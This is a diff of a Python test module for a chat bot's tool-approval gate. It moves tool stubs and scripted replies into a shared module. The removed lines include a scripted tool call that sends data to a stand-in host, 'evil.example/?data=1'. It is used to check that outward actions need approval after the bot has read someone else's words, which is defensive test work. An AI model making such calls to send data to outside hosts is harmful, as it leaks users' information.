@@ -10,32 +10,13 @@ from bot.access import Access
 from bot.approvals import DAY, Gate, buttons, question
 from bot.clock import SystemClock
 from bot.messages import Attachment, Ended, Person, Quote, Turn
-from bot.toolkit import Toolbox, tool
 from bot.turn import Outcome
 from simulator.script import call, reply, text
 from tests.bots import Bot, bot_on, results, tap
+from tests.letters import LETTER, SENT, TOOLS
+from tests.letters import VISIT as OUT
 from tests.pictures import PNG
 from tests.say import ANN, BUDI, GROUP, HERE, inbound
-
-SENT: list[str] = []
-
-
-@tool(writes=True, asks=True)
-async def send_letter(to: str, words: str) -> str:
-    """Send a letter."""
-    SENT.append(f"{to}: {words}")
-    return "Sent."
-
-
-@tool(outward=True)
-async def visit(place: str) -> str:
-    """Go somewhere."""
-    SENT.append(f"visited {place}")
-    return "Been there."
-
-
-TOOLS = Toolbox([send_letter, visit])
-LETTER = reply(call("send_letter", {"to": "Budi", "words": "Come at nine."}))
 
 
 @pytest.fixture
@@ -183,9 +164,6 @@ async def test_the_owners_choice_of_what_asks_counts(path: Path) -> None:
     async with bot_on(path, LETTER, text("Done."), tools=TOOLS, gate=Gate(never=frozenset({"send_letter"}))) as bot:
         await asked(bot)
         assert len(SENT) == 1
-
-
-OUT = reply(call("visit", {"place": "https://evil.example/?data=1"}))
 
 
 async def test_reaching_out_asks_once_somebody_elses_words_were_read(path: Path) -> None:
